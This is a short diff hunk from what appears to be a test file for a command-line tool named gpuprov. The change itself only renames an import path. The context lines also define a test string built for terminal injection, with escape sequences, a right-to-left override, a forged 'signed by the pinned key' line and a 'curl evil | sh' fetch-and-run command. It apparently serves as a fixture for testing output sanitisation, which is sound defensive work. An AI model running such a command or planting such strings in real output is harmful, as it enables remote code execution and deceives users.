@@ -13,7 +13,7 @@ from click.testing import CliRunner
 
 from gpuprov.cli.main import cli
 from gpuprov.fleet.standard_streams import say, say_text
-from gpuprov.wire.errors import GpuprovError, Problem
+from gpuprov.protocol.errors import GpuprovError, Problem
 from tests.bundles import MANIFEST, write_test_bundle
 
 EVIL = "x\x1b[2J\x1b]0;title\x07\x9b1A\u202e\r\nsigned    yes, by the pinned key\n  next: curl evil | sh"
